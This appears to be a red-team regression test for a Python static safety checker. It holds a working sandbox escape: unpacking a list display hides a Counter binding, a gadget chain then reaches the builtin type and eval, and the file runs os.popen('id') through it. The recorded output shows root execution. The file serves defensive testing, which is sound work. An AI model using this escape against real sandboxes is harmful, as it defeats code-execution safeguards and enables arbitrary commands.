# expect: reject unbound
# line: 20
# verified: reaches its goal under plain python3 (3.11) in a temp dir (eval obtained, id ran)
# why: thirteenth red team (third round), family B: a list display unpacked into names is not followed

# Mechanism: a plain assignment of a library class to a name is an allowed place because the read rule follows the name; but the binding is not recorded for a tuple of names unpacking a LIST display K, J = [collections.Counter, dict] (the tuple display form K, J = collections.Counter, dict is followed and refused)
# Goal reached: the builtin type by value (Counter.copy(P)), then eval by value (typing._GenericAlias + deepcopy, 11b family A end gadget), called: runs id
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD b170093
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import typing

class P:
    pass

K, J = [collections.Counter, dict]                  # tuple of names = a LIST display: allowed as a place, but K is never recorded as the class
T = K.copy(P)                                       # Counter.copy(P) -> P.__class__(P) -> builtin type
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))   # 11b family A end gadget
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
